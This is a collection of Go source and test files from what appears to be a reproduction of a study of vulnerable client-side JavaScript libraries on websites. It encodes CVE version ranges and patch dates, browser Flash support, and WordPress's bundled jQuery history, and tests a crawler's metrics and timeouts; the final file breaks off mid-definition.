// Merged per-worker snapshots must equal the snapshot one crawler doing
// all the work would report: split a domain list across two crawlers
// against the same server, merge, and compare against one crawler
// fetching everything (counters only — latency buckets are timing-
// dependent, so assert bucket totals instead of exact bins).
func TestMetricsSnapshotMergeMatchesSingleCrawler(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 40, Seed: 9})
	ts := httptest.NewServer(webserver.New(eco))
	defer ts.Close()

	domains := make([]string, len(eco.Sites))
	for i := range eco.Sites {
		domains[i] = eco.Sites[i].Domain.Name
	}
	cfg := Config{BaseURL: ts.URL, Workers: 4, Timeout: 5 * time.Second, Retries: NoRetries}

	one := New(cfg)
	if err := one.CrawlWeek(context.Background(), 0, domains, func(Page) {}); err != nil {
		t.Fatal(err)
	}
	whole := one.Metrics()

	a, b := New(cfg), New(cfg)
	if err := a.CrawlWeek(context.Background(), 0, domains[:20], func(Page) {}); err != nil {
		t.Fatal(err)
	}
	if err := b.CrawlWeek(context.Background(), 0, domains[20:], func(Page) {}); err != nil {
		t.Fatal(err)
	}
	merged := a.Metrics()
	merged.Merge(b.Metrics())

	if merged.Attempts != whole.Attempts || merged.Successes != whole.Successes ||
		merged.ConnFailures != whole.ConnFailures || merged.Bytes != whole.Bytes {
		t.Errorf("merged counters diverge from single crawler:\nmerged: %+v\n whole: %+v", merged, whole)
	}
	var mtot, wtot int64
	for i := range merged.Latency {
		mtot += merged.Latency[i]
		wtot += whole.Latency[i]
	}
	if mtot != wtot {
		t.Errorf("merged latency samples %d, single crawler %d", mtot, wtot)
	}
}

// A FetchTimeout shorter than the server latency must surface as a
// Status-0 page (Err set) without the deadline leaking into subsequent
// fetches, and a FetchTimeout that also covers the retry backoff must cap
// the whole fetch, not just one attempt.
func TestFetchTimeoutDeadline(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 30, Seed: 6})
	srv := webserver.New(eco)
	// Latency injected here rather than via webserver.Latency: the test
	// flips it off while the timed-out fetch's abandoned handler may still
	// be running, so the knob must be synchronized.
	var delay atomic.Int64
	delay.Store(int64(200 * time.Millisecond))
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if d := delay.Load(); d > 0 {
			time.Sleep(time.Duration(d))
		}
		srv.ServeHTTP(w, r)
	}))
	defer ts.Close()

	var healthy string
	for i := range eco.Sites {
		if eco.Truth(i, 0).Accessible {
			healthy = eco.Sites[i].Domain.Name
			break
		}
	}
	if healthy == "" {
		t.Skip("no healthy site")
	}

	// Generous per-attempt Timeout, tight FetchTimeout: the fetch must
	// fail within roughly the FetchTimeout even though each attempt would
	// be allowed 5s, and retries may not extend it.
	c := New(Config{BaseURL: ts.URL, Timeout: 5 * time.Second, FetchTimeout: 60 * time.Millisecond, Retries: 3})
	start := time.Now()
	page := c.Fetch(context.Background(), 0, healthy)
	if page.Err == nil {
		t.Fatal("sub-latency FetchTimeout should fail")
	}
	if el := time.Since(start); el > 2*time.Second {
		t.Errorf("FetchTimeout did not cap retries: fetch took %v", el)
	}

	// The deadline must not leak: a fresh fetch with no timeout pressure
	// on the same crawler still succeeds once latency is removed.
	delay.Store(0)
	page = c.Fetch(context.Background(), 0, healthy)
	if page.Err != nil || page.Status != 200 {
		t.Errorf("post-timeout fetch should succeed: status %d err %v", page.Status, page.Err)
	}
}
