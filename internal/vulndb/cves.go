package vulndb

import (
	"time"

	"clientres/internal/semver"
)

// rs parses a range literal at init time.
func rs(expr string) semver.RangeSet { return semver.MustParseRange(expr) }

// advisories encodes Table 2 of the paper row by row: the CVE-disclosed
// affected range, the True Vulnerable Version range the paper established
// with PoC experiments (zero where Table 2 shows "–"), the patched version
// and dates, and the attack type.
//
// Dates are as printed in Table 2 (M/D/Y). Two quirks of the table are kept
// faithfully: CVE-2020-7656 and CVE-2014-6071 have patch dates *before*
// their disclosure dates (the fixing release predates the CVE), and the
// jQuery-Migrate issue has no CVE ID (identified via Snyk/GitHub).
var advisories = []Advisory{
	// --- jQuery (8) ---
	{
		ID: "CVE-2020-7656", Lib: "jquery",
		CVERange: rs("< 1.9.0"), TrueRange: rs("< 3.6.0"),
		Patched:   semver.MustParse("1.9.0"),
		Disclosed: d(2020, time.May, 19), PatchDate: d(2013, time.January, 15),
		Attack: AttackXSS, HasPoC: true,
	},
	{
		ID: "CVE-2020-11023", Lib: "jquery",
		CVERange: rs("1.0.3 ~ 3.5.0"), TrueRange: rs("1.4.0 ~ 3.5.0"),
		Patched:   semver.MustParse("3.5.0"),
		Disclosed: d(2020, time.April, 10), PatchDate: d(2020, time.April, 10),
		Attack: AttackXSS, Conditional: true,
	},
	{
		ID: "CVE-2020-11022", Lib: "jquery",
		CVERange: rs("1.2.0 ~ 3.5.0"), TrueRange: rs("1.12.0 ~ 3.5.0"),
		Patched:   semver.MustParse("3.5.0"),
		Disclosed: d(2020, time.April, 29), PatchDate: d(2020, time.April, 10),
		Attack: AttackXSS, Conditional: true,
	},
	{
		ID: "CVE-2019-11358", Lib: "jquery",
		CVERange:  rs("< 3.4.0"),
		Patched:   semver.MustParse("3.4.0"),
		Disclosed: d(2019, time.March, 26), PatchDate: d(2019, time.April, 10),
		Attack: AttackPrototypePollution,
	},
	{
		ID: "CVE-2015-9251", Lib: "jquery",
		CVERange:  rs("1.12.0 ~ 3.0.0"),
		Patched:   semver.MustParse("3.0.0"),
		Disclosed: d(2015, time.June, 26), PatchDate: d(2016, time.June, 9),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2014-6071", Lib: "jquery",
		CVERange: rs("1.4.2 ~ 1.6.2"), TrueRange: rs("1.5.0 ~ 2.2.4"),
		Patched:   semver.MustParse("1.6.2"),
		Disclosed: d(2014, time.September, 1), PatchDate: d(2011, time.June, 30),
		Attack: AttackXSS, HasPoC: true,
	},
	{
		ID: "CVE-2012-6708", Lib: "jquery",
		CVERange: rs("< 1.9.1"), TrueRange: rs("< 1.9.0"),
		Patched:   semver.MustParse("1.9.1"),
		Disclosed: d(2012, time.June, 19), PatchDate: d(2013, time.February, 4),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2011-4969", Lib: "jquery",
		CVERange:  rs("< 1.6.3"),
		Patched:   semver.MustParse("1.6.3"),
		Disclosed: d(2011, time.June, 5), PatchDate: d(2011, time.September, 1),
		Attack: AttackXSS,
	},
	// --- Bootstrap (7) ---
	{
		ID: "CVE-2019-8331", Lib: "bootstrap",
		CVERange:  rs("< 3.4.1, >= 4.0.0 < 4.3.1"),
		Patched:   semver.MustParse("4.3.1"),
		Disclosed: d(2019, time.February, 11), PatchDate: d(2019, time.February, 13),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2018-20676", Lib: "bootstrap",
		CVERange: rs("< 3.4.0"), TrueRange: rs("3.2.0 ~ 3.4.0"),
		Patched:   semver.MustParse("3.4.0"),
		Disclosed: d(2018, time.August, 13), PatchDate: d(2018, time.December, 13),
		Attack: AttackXSS, HasPoC: true,
	},
	{
		ID: "CVE-2018-20677", Lib: "bootstrap",
		CVERange: rs("< 3.4.0"), TrueRange: rs("3.2.0 ~ 3.4.0"),
		Patched:   semver.MustParse("3.4.0"),
		Disclosed: d(2019, time.January, 9), PatchDate: d(2018, time.December, 13),
		Attack: AttackXSS, HasPoC: true,
	},
	{
		ID: "CVE-2018-14042", Lib: "bootstrap",
		CVERange: rs("< 4.1.2"), TrueRange: rs("2.3.0 ~ 4.1.2"),
		Patched:   semver.MustParse("4.1.2"),
		Disclosed: d(2018, time.May, 29), PatchDate: d(2018, time.July, 12),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2018-14041", Lib: "bootstrap",
		CVERange:  rs("< 4.1.2"),
		Patched:   semver.MustParse("4.1.2"),
		Disclosed: d(2018, time.May, 29), PatchDate: d(2018, time.July, 12),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2018-14040", Lib: "bootstrap",
		CVERange: rs("< 4.1.2"), TrueRange: rs("2.3.0 ~ 4.1.2"),
		Patched:   semver.MustParse("4.1.2"),
		Disclosed: d(2018, time.May, 29), PatchDate: d(2018, time.July, 12),
		Attack: AttackXSS, HasPoC: true,
	},
	{
		ID: "CVE-2016-10735", Lib: "bootstrap",
		CVERange: rs("< 3.4.0"), TrueRange: rs("2.1.0 ~ 3.4.0"),
		Patched:   semver.MustParse("3.4.0"),
		Disclosed: d(2016, time.June, 27), PatchDate: d(2018, time.December, 13),
		Attack: AttackXSS, HasPoC: true,
	},
	// --- jQuery-Migrate (1, no CVE ID assigned) ---
	{
		ID: "SNYK-JQMIGRATE-2013", Lib: "jquery-migrate",
		CVERange: rs("< 1.2.1"), TrueRange: rs("1.0.0 ~ 3.0.0"),
		Patched:   semver.MustParse("1.2.1"),
		Disclosed: d(2013, time.April, 18), PatchDate: d(2007, time.September, 16),
		Attack: AttackXSS, HasPoC: true,
	},
	// --- jQuery-UI (6) ---
	{
		ID: "CVE-2010-5312", Lib: "jquery-ui",
		CVERange:  rs("< 1.10.0"),
		Patched:   semver.MustParse("1.10.0"),
		Disclosed: d(2010, time.September, 2), PatchDate: d(2013, time.January, 17),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2012-6662", Lib: "jquery-ui",
		CVERange:  rs("< 1.10.0"),
		Patched:   semver.MustParse("1.10.0"),
		Disclosed: d(2012, time.November, 26), PatchDate: d(2013, time.January, 17),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2016-7103", Lib: "jquery-ui",
		CVERange: rs("< 1.12.0"), TrueRange: rs("1.10.0 ~ 1.13.0"),
		Patched:   semver.MustParse("1.12.0"),
		Disclosed: d(2016, time.July, 21), PatchDate: d(2016, time.July, 8),
		Attack: AttackXSS, HasPoC: true,
	},
	{
		ID: "CVE-2021-41182", Lib: "jquery-ui",
		CVERange:  rs("< 1.13.0"),
		Patched:   semver.MustParse("1.13.0"),
		Disclosed: d(2021, time.October, 27), PatchDate: d(2021, time.October, 7),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2021-41183", Lib: "jquery-ui",
		CVERange:  rs("< 1.13.0"),
		Patched:   semver.MustParse("1.13.0"),
		Disclosed: d(2021, time.October, 27), PatchDate: d(2021, time.October, 7),
		Attack: AttackXSS,
	},
	{
		ID: "CVE-2021-41184", Lib: "jquery-ui",
		CVERange:  rs("< 1.13.0"),
		Patched:   semver.MustParse("1.13.0"),
		Disclosed: d(2021, time.October, 27), PatchDate: d(2021, time.October, 7),
		Attack: AttackXSS,
	},
	// --- Underscore (1) ---
	{
		ID: "CVE-2021-23358", Lib: "underscore",
		CVERange:  rs("1.3.2 ~ 1.12.1"),
		Patched:   semver.MustParse("1.12.1"),
		Disclosed: d(2021, time.March, 2), PatchDate: d(2021, time.March, 19),
		Attack: AttackCodeInjection,
	},
	// --- Moment.js (2) ---
	{
		ID: "CVE-2017-18214", Lib: "moment",
		CVERange:  rs("< 2.19.3"),
		Patched:   semver.MustParse("2.19.3"),
		Disclosed: d(2017, time.September, 5), PatchDate: d(2017, time.November, 29),
		Attack: AttackResourceExhaustion,
	},
	{
		ID: "CVE-2016-4055", Lib: "moment",
		CVERange: rs("< 2.11.2"), TrueRange: rs("2.8.1 ~ 2.15.2"),
		Patched:   semver.MustParse("2.11.2"),
		Disclosed: d(2016, time.January, 26), PatchDate: d(2016, time.February, 7),
		Attack: AttackResourceExhaustion,
	},
	// --- Prototype (2) ---
	{
		ID: "CVE-2020-27511", Lib: "prototype",
		CVERange: rs("<= 1.7.3"), TrueRange: rs("*"),
		// No patched version exists; the fix PR from 2021 is still unmerged.
		Disclosed: d(2021, time.June, 21),
		Attack:    AttackReDoS,
	},
	{
		ID: "CVE-2020-7993", Lib: "prototype",
		CVERange: rs("< 1.6.0.1"),
		// Affected version is no longer available; no patch tracked.
		Disclosed: d(2020, time.February, 3),
		Attack:    AttackMissingAuth,
	},
}
