package vulndb

// Browser is one row of the paper's Table 3: a desktop browser, its
// worldwide market share (Apr 2022 – Apr 2023, statcounter), and whether it
// still played Adobe Flash when the authors tested on May 26, 2023.
//
// This dataset is a deliberate simulation boundary: the paper produced it by
// manually installing ten browsers on macOS 12.4 and Windows 10 — an
// experiment no offline Go program can re-run. We preserve the artifact and
// its downstream use (the 360 Browser / flash.cn ecosystem finding).
type Browser struct {
	Name          string
	MarketSharePC float64 // percent
	SupportsFlash bool
	// Engine notes why support persists where it does.
	Engine string
}

var browsers = []Browser{
	{Name: "Chrome", MarketSharePC: 66.45, Engine: "Blink"},
	{Name: "Edge", MarketSharePC: 10.80, Engine: "Blink"},
	{Name: "Safari", MarketSharePC: 9.59, Engine: "WebKit"},
	{Name: "Firefox", MarketSharePC: 7.16, Engine: "Gecko"},
	{Name: "Opera", MarketSharePC: 3.09, Engine: "Blink"},
	{Name: "IE", MarketSharePC: 0.81, Engine: "Trident"},
	{Name: "360 Browser", MarketSharePC: 0.66, SupportsFlash: true,
		Engine: "Blink (Chrome 78 fork, bundles Flash; users pointed to flash.cn)"},
	{Name: "Yandex Browser", MarketSharePC: 0.39, Engine: "Blink"},
	{Name: "QQ Browser", MarketSharePC: 0.20, Engine: "Blink"},
	{Name: "Edge Legacy", MarketSharePC: 0.16, Engine: "EdgeHTML"},
}

// Browsers returns Table 3's rows in market-share order.
func Browsers() []Browser {
	out := make([]Browser, len(browsers))
	copy(out, browsers)
	return out
}

// FlashSupportingBrowsers returns the browsers that still play Flash.
func FlashSupportingBrowsers() []Browser {
	var out []Browser
	for _, b := range browsers {
		if b.SupportsFlash {
			out = append(out, b)
		}
	}
	return out
}

// FlashCVECount is the number of Adobe Flash Player CVEs publicly reported
// as of May 26, 2023 (Section 2.2).
const FlashCVECount = 1118

// officialSnippetSRI records, per top-15 library, whether the official
// website's copy-paste inclusion snippet carries an integrity attribute.
// The paper checked all fifteen and found exactly one (Bootstrap) — a
// missed opportunity given developers' copy-and-paste habits (Section 6.5).
var officialSnippetSRI = map[string]bool{
	"bootstrap": true,
}

// OfficialSnippetHasSRI reports whether a library's official site provides
// an integrity-bearing code snippet.
func OfficialSnippetHasSRI(slug string) bool { return officialSnippetSRI[slug] }

// LibrariesWithSRISnippet returns the top-15 libraries whose official
// snippet includes integrity (the paper found one of fifteen).
func LibrariesWithSRISnippet() []Library {
	var out []Library
	for _, l := range libraries {
		if officialSnippetSRI[l.Slug] {
			out = append(out, l)
		}
	}
	return out
}
