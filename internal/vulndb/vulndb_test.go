package vulndb

import (
	"testing"
	"time"

	"clientres/internal/semver"
)

func TestLibrariesTop15(t *testing.T) {
	libs := Libraries()
	if len(libs) != 15 {
		t.Fatalf("Libraries() = %d, want 15", len(libs))
	}
	if libs[0].Slug != "jquery" || libs[1].Slug != "bootstrap" {
		t.Errorf("order wrong: %s, %s", libs[0].Slug, libs[1].Slug)
	}
	seen := map[string]bool{}
	for _, l := range libs {
		if seen[l.Slug] {
			t.Errorf("duplicate slug %q", l.Slug)
		}
		seen[l.Slug] = true
		if l.Name == "" || l.GlobalObject == "" {
			t.Errorf("library %q missing metadata", l.Slug)
		}
	}
}

func TestDiscontinuedFlags(t *testing.T) {
	for _, slug := range []string{"jquery-cookie", "swfobject"} {
		l, ok := LibraryBySlug(slug)
		if !ok || !l.Discontinued {
			t.Errorf("%s should be discontinued", slug)
		}
	}
	if l, _ := LibraryBySlug("jquery-cookie"); l.Successor != "js-cookie" {
		t.Error("jquery-cookie successor should be js-cookie")
	}
	if l, _ := LibraryBySlug("jquery"); l.Discontinued {
		t.Error("jquery is not discontinued")
	}
}

func TestEveryLibraryHasCatalog(t *testing.T) {
	for _, l := range Libraries() {
		c, ok := CatalogFor(l.Slug)
		if !ok {
			t.Errorf("no catalog for %q", l.Slug)
			continue
		}
		if len(c.Releases) == 0 {
			t.Errorf("empty catalog for %q", l.Slug)
		}
		if c.Lib.Slug != l.Slug {
			t.Errorf("catalog %q has Lib %q", l.Slug, c.Lib.Slug)
		}
	}
}

func TestCatalogsAscendingWithinMajor(t *testing.T) {
	// Release lines interleave across majors and backports land late
	// (jQuery 1.x/2.x shipped in lock-step; jQuery-UI 1.7.3 shipped after
	// 1.8.0), but within one major.minor line versions must ascend with
	// dates.
	for slug, c := range Catalogs() {
		byMinor := map[[2]int][]Release{}
		for _, rel := range c.Releases {
			k := [2]int{rel.Version.Major(), rel.Version.Minor()}
			byMinor[k] = append(byMinor[k], rel)
		}
		for m, rels := range byMinor {
			for i := 1; i < len(rels); i++ {
				if rels[i].Version.Less(rels[i-1].Version) {
					t.Errorf("%s major %d: %s listed after %s", slug, m,
						rels[i].Version, rels[i-1].Version)
				}
				if rels[i].Date.Before(rels[i-1].Date) {
					t.Errorf("%s major %d: %s dated before %s", slug, m,
						rels[i].Version, rels[i-1].Version)
				}
			}
		}
	}
}

func TestJQueryCatalogShape(t *testing.T) {
	c, _ := CatalogFor("jquery")
	if n := len(c.Releases); n < 75 || n > 85 {
		t.Errorf("jQuery catalog has %d releases, want ~81", n)
	}
	if got := c.Latest().Version.String(); got != "3.6.0" {
		t.Errorf("latest jQuery = %s, want 3.6.0 (the paper's dataset latest)", got)
	}
	if rel, ok := c.Find(semver.MustParse("1.12.4")); !ok || rel.Date.Year() != 2016 {
		t.Error("jQuery 1.12.4 (May 2016) missing or misdated")
	}
}

func TestLatestAsOf(t *testing.T) {
	c, _ := CatalogFor("jquery")
	// Before 3.5.0's release (Apr 10 2020), the latest is 3.4.1.
	at := d(2020, time.April, 9)
	if got := c.LatestAsOf(at).Version.String(); got != "3.4.1" {
		t.Errorf("LatestAsOf(2020-04-09) = %s, want 3.4.1", got)
	}
	if got := c.LatestAsOf(d(2005, time.January, 1)); !got.Version.IsZero() {
		t.Errorf("LatestAsOf before first release should be zero, got %s", got.Version)
	}
}

func TestReleasedIn(t *testing.T) {
	c, _ := CatalogFor("jquery")
	rels := c.ReleasedIn(d(2020, time.January, 1), d(2021, time.January, 1))
	want := map[string]bool{"3.5.0": true, "3.5.1": true}
	if len(rels) != 2 {
		t.Fatalf("ReleasedIn 2020 = %d releases", len(rels))
	}
	for _, rel := range rels {
		if !want[rel.Version.String()] {
			t.Errorf("unexpected 2020 release %s", rel.Version)
		}
	}
}

func TestAdvisoryCount(t *testing.T) {
	// Table 2 lists 27 rows. (The paper's caption says "28 vulnerabilities"
	// while Section 6.2 says 27 CVE reports; the table itself has 27 rows
	// — 8 jQuery + 7 Bootstrap + 1 Migrate + 6 UI + 1 Underscore +
	// 2 Moment + 2 Prototype. We encode the rows.)
	if n := len(Advisories()); n != 27 {
		t.Fatalf("Advisories() = %d, want 27", n)
	}
	perLib := map[string]int{}
	for _, a := range Advisories() {
		perLib[a.Lib]++
	}
	want := map[string]int{
		"jquery": 8, "bootstrap": 7, "jquery-migrate": 1,
		"jquery-ui": 6, "underscore": 1, "moment": 2, "prototype": 2,
	}
	for lib, n := range want {
		if perLib[lib] != n {
			t.Errorf("%s advisories = %d, want %d", lib, perLib[lib], n)
		}
	}
	if len(perLib) != 7 {
		t.Errorf("advisories span %d libraries, want 7", len(perLib))
	}
}

func TestAdvisoryRangesMatchKnownVersions(t *testing.T) {
	cases := []struct {
		id, ver string
		inCVE   bool
		inTrue  bool
	}{
		{"CVE-2020-7656", "1.8.3", true, true},
		{"CVE-2020-7656", "1.10.1", false, true}, // the paper's headline understatement
		{"CVE-2020-7656", "3.5.1", false, true},  // microsoft.com's version
		{"CVE-2020-7656", "3.6.0", false, false},
		{"CVE-2020-11022", "1.2.6", true, false},
		{"CVE-2020-11022", "2.2.3", true, true}, // docusign.com's version
		{"CVE-2019-11358", "3.3.1", true, true}, // unvalidated: true falls back to CVE
		{"CVE-2014-6071", "2.2.3", false, true},
		{"CVE-2020-27511", "1.7.3", true, true},
		{"CVE-2016-4055", "2.5.0", true, false},
		{"CVE-2016-4055", "2.15.0", false, true},
	}
	byID := map[string]Advisory{}
	for _, a := range Advisories() {
		byID[a.ID] = a
	}
	for _, c := range cases {
		a, ok := byID[c.id]
		if !ok {
			t.Errorf("advisory %s missing", c.id)
			continue
		}
		v := semver.MustParse(c.ver)
		if got := a.CVERange.Contains(v); got != c.inCVE {
			t.Errorf("%s CVERange.Contains(%s) = %v, want %v", c.id, c.ver, got, c.inCVE)
		}
		if got := a.EffectiveTrueRange().Contains(v); got != c.inTrue {
			t.Errorf("%s TrueRange.Contains(%s) = %v, want %v", c.id, c.ver, got, c.inTrue)
		}
	}
}

func TestClassifyAccuracyMatchesPaper(t *testing.T) {
	// Table 2 marks understated (more versions vulnerable than disclosed)
	// and overstated CVEs. Verify our classifier reproduces the marks for
	// the clear-cut rows.
	wantUnder := []string{"CVE-2020-7656", "CVE-2014-6071", "SNYK-JQMIGRATE-2013"}
	wantOver := []string{"CVE-2020-11023", "CVE-2020-11022", "CVE-2012-6708",
		"CVE-2018-20676", "CVE-2018-20677", "CVE-2018-14042", "CVE-2018-14040",
		"CVE-2016-10735"}
	byID := map[string]Advisory{}
	for _, a := range Advisories() {
		byID[a.ID] = a
	}
	for _, id := range wantUnder {
		a := byID[id]
		cat, _ := CatalogFor(a.Lib)
		if got := a.ClassifyAccuracy(cat); got != Understated && got != Mixed {
			t.Errorf("%s accuracy = %v, want understated", id, got)
		}
	}
	for _, id := range wantOver {
		a := byID[id]
		cat, _ := CatalogFor(a.Lib)
		if got := a.ClassifyAccuracy(cat); got != Overstated {
			t.Errorf("%s accuracy = %v, want overstated", id, got)
		}
	}
	// Unvalidated rows (Table 2 "–") classify as such.
	a := byID["CVE-2019-11358"]
	cat, _ := CatalogFor(a.Lib)
	if got := a.ClassifyAccuracy(cat); got != Unvalidated {
		t.Errorf("CVE-2019-11358 accuracy = %v, want unvalidated", got)
	}
}

func TestIncorrectCVECount(t *testing.T) {
	// Section 6.4: "13 CVE reports (out of 27) incorrectly state vulnerable
	// versions". Count advisories whose classification is not Accurate or
	// Unvalidated.
	n := 0
	for _, a := range Advisories() {
		cat, _ := CatalogFor(a.Lib)
		switch a.ClassifyAccuracy(cat) {
		case Understated, Overstated, Mixed:
			n++
		}
	}
	// The paper's own counts disagree internally (caption: 12; text: 13).
	// Our Table-2-faithful encoding yields every row with a stated TVV.
	if n < 12 || n > 14 {
		t.Errorf("incorrect-CVE count = %d, want 12–14 (paper says 13)", n)
	}
}

func TestAdvisoriesDisclosedBy(t *testing.T) {
	early := AdvisoriesDisclosedBy(d(2018, time.March, 1))
	for _, a := range early {
		if a.Disclosed.After(d(2018, time.March, 1)) {
			t.Errorf("%s disclosed %v after cutoff", a.ID, a.Disclosed)
		}
	}
	// jQuery 2020 CVEs must not be present at the study start...
	for _, a := range early {
		if a.ID == "CVE-2020-11022" {
			t.Error("CVE-2020-11022 should not be disclosed by Mar 2018")
		}
	}
	// ...but must be present at the end.
	all := AdvisoriesDisclosedBy(d(2022, time.March, 1))
	if len(all) != len(Advisories()) {
		t.Errorf("by end of study %d advisories disclosed, want all %d", len(all), len(Advisories()))
	}
	// Sorted ascending.
	for i := 1; i < len(all); i++ {
		if all[i].Disclosed.Before(all[i-1].Disclosed) {
			t.Error("AdvisoriesDisclosedBy not sorted")
		}
	}
}

func TestPatchedVersionInsideCatalog(t *testing.T) {
	for _, a := range Advisories() {
		if a.Patched.IsZero() {
			continue
		}
		cat, ok := CatalogFor(a.Lib)
		if !ok {
			t.Fatalf("no catalog for %s", a.Lib)
		}
		if _, ok := cat.Find(a.Patched); !ok {
			t.Errorf("%s: patched version %s not in %s catalog", a.ID, a.Patched, a.Lib)
		}
		// The patched version must not be inside the CVE's own range.
		if a.CVERange.Contains(a.Patched) {
			t.Errorf("%s: patched version %s is inside the CVE range %s", a.ID, a.Patched, a.CVERange)
		}
	}
}

func TestPrototypeUnpatched(t *testing.T) {
	for _, a := range AdvisoriesFor("prototype") {
		if !a.Patched.IsZero() {
			t.Errorf("%s: Prototype advisories have no patched version, got %s", a.ID, a.Patched)
		}
	}
}

func TestWordPressReleases(t *testing.T) {
	rels := WordPressReleases()
	if len(rels) < 20 {
		t.Fatalf("WordPress releases = %d, want ≥20", len(rels))
	}
	// 5.5 must drop jQuery-Migrate; 5.6 must restore it with jQuery 3.5.1.
	v55, ok := WordPressFind(semver.MustParse("5.5"))
	if !ok || !v55.Migrate.IsZero() {
		t.Error("WP 5.5 should ship without jQuery-Migrate")
	}
	v56, ok := WordPressFind(semver.MustParse("5.6"))
	if !ok || v56.Migrate.IsZero() || v56.JQuery.String() != "3.5.1" {
		t.Errorf("WP 5.6 should bundle jQuery 3.5.1 + Migrate, got %+v", v56)
	}
	v58, _ := WordPressFind(semver.MustParse("5.8"))
	if v58.JQuery.String() != "3.6.0" {
		t.Errorf("WP 5.8 should bundle jQuery 3.6.0, got %s", v58.JQuery)
	}
}

func TestWordPressLatestAsOf(t *testing.T) {
	// Mid-study checkpoints the Figure 7 dynamics depend on.
	cases := map[string]string{
		"2020-08-01": "5.4",
		"2020-09-01": "5.5",
		"2020-12-09": "5.6",
		"2021-08-01": "5.8",
	}
	for ts, want := range cases {
		at, _ := time.Parse("2006-01-02", ts)
		if got := WordPressLatestAsOf(at).Version.String(); got != want {
			t.Errorf("WordPressLatestAsOf(%s) = %s, want %s", ts, got, want)
		}
	}
}

func TestWordPressAdvisories(t *testing.T) {
	advs := WordPressAdvisories()
	if len(advs) != 10 {
		t.Fatalf("Table 4 rows = %d, want 10", len(advs))
	}
	// CVE-2021-44223 covers every pre-5.8 release.
	var a WPAdvisory
	for _, adv := range advs {
		if adv.ID == "CVE-2021-44223" {
			a = adv
		}
	}
	if !a.Range.Contains(semver.MustParse("5.7")) || a.Range.Contains(semver.MustParse("5.8")) {
		t.Error("CVE-2021-44223 range wrong")
	}
}

func TestBrowsersTable3(t *testing.T) {
	bs := Browsers()
	if len(bs) != 10 {
		t.Fatalf("Table 3 rows = %d, want 10", len(bs))
	}
	flash := FlashSupportingBrowsers()
	if len(flash) != 1 || flash[0].Name != "360 Browser" {
		t.Errorf("only 360 Browser should support Flash, got %+v", flash)
	}
	var total float64
	for _, b := range bs {
		total += b.MarketSharePC
	}
	if total < 95 || total > 101 {
		t.Errorf("market shares sum to %.2f, want ~99", total)
	}
}
