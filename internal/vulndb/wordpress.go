package vulndb

import (
	"time"

	"clientres/internal/semver"
)

// WPRelease is one WordPress core release, together with the jQuery and
// jQuery-Migrate versions it bundles. The bundling history drives the
// paper's two headline update events: WP 5.5 disabling jQuery-Migrate
// (Aug 2020, the Figure 3a usage drop) and WP 5.6 re-enabling it while
// auto-updating bundled jQuery to 3.5.1 (Dec 2020, the Figure 7 jump).
type WPRelease struct {
	Version semver.Version
	Date    time.Time
	// JQuery is the bundled jQuery version.
	JQuery semver.Version
	// Migrate is the bundled jQuery-Migrate version; zero when the release
	// ships without it (5.5.x).
	Migrate semver.Version
}

func wp(ver string, y int, m time.Month, day int, jq, mig string) WPRelease {
	rel := WPRelease{
		Version: semver.MustParse(ver),
		Date:    d(y, m, day),
		JQuery:  semver.MustParse(jq),
	}
	if mig != "" {
		rel.Migrate = semver.MustParse(mig)
	}
	return rel
}

// wordpressReleases is the core release line relevant to the study window,
// plus the older majors needed by the Table 4 CVE ranges.
var wordpressReleases = []WPRelease{
	wp("2.8.3", 2009, time.August, 3, "1.3.2", ""),
	wp("3.1.3", 2011, time.May, 25, "1.5.1", ""),
	wp("3.3.2", 2012, time.April, 20, "1.7.1", ""),
	wp("3.5.2", 2013, time.June, 21, "1.8.3", ""),
	wp("3.7", 2013, time.October, 24, "1.10.2", "1.2.1"),
	wp("4.0", 2014, time.September, 4, "1.11.1", "1.2.1"),
	wp("4.5", 2016, time.April, 12, "1.12.3", "1.4.0"),
	wp("4.6", 2016, time.August, 16, "1.12.4", "1.4.1"),
	wp("4.7", 2016, time.December, 6, "1.12.4", "1.4.1"),
	wp("4.8", 2017, time.June, 8, "1.12.4", "1.4.1"),
	wp("4.9", 2017, time.November, 16, "1.12.4", "1.4.1"),
	wp("5.0", 2018, time.December, 6, "1.12.4", "1.4.1"),
	wp("5.1", 2019, time.February, 21, "1.12.4", "1.4.1"),
	wp("5.2", 2019, time.May, 7, "1.12.4", "1.4.1"),
	wp("5.3", 2019, time.November, 12, "1.12.4", "1.4.1"),
	wp("5.4", 2020, time.March, 31, "1.12.4", "1.4.1"),
	// 5.5 updates bundled jQuery to 1.12.4-wp and DISABLES jQuery-Migrate.
	wp("5.5", 2020, time.August, 11, "1.12.4", ""),
	wp("5.5.3", 2020, time.October, 30, "1.12.4", ""),
	// 5.6 ships jQuery 3.5.1 and re-includes jQuery-Migrate (3.3.2).
	wp("5.6", 2020, time.December, 8, "3.5.1", "3.3.2"),
	wp("5.7", 2021, time.March, 9, "3.5.1", "3.3.2"),
	// 5.8 moves bundled jQuery to 3.6.0 (the Aug 2021 shift in Figure 7).
	wp("5.8", 2021, time.July, 20, "3.6.0", "3.3.2"),
	wp("5.8.3", 2022, time.January, 6, "3.6.0", "3.3.2"),
	wp("5.9", 2022, time.January, 25, "3.6.0", "3.3.2"),
}

// WordPressReleases returns the encoded WordPress release line ascending by
// date.
func WordPressReleases() []WPRelease {
	out := make([]WPRelease, len(wordpressReleases))
	copy(out, wordpressReleases)
	return out
}

// WordPressLatestAsOf returns the newest WordPress release published on or
// before t (zero release if none).
func WordPressLatestAsOf(t time.Time) WPRelease {
	var best WPRelease
	for _, rel := range wordpressReleases {
		if !rel.Date.After(t) && (best.Version.IsZero() || best.Version.Less(rel.Version)) {
			best = rel
		}
	}
	return best
}

// WordPressFind returns the release record for an exact version.
func WordPressFind(v semver.Version) (WPRelease, bool) {
	for _, rel := range wordpressReleases {
		if rel.Version.Equal(v) {
			return rel, true
		}
	}
	return WPRelease{}, false
}

// WPAdvisory is one WordPress-core CVE of Table 4.
type WPAdvisory struct {
	ID        string
	Range     semver.RangeSet
	Patched   semver.Version
	Disclosed time.Time
	PatchDate time.Time
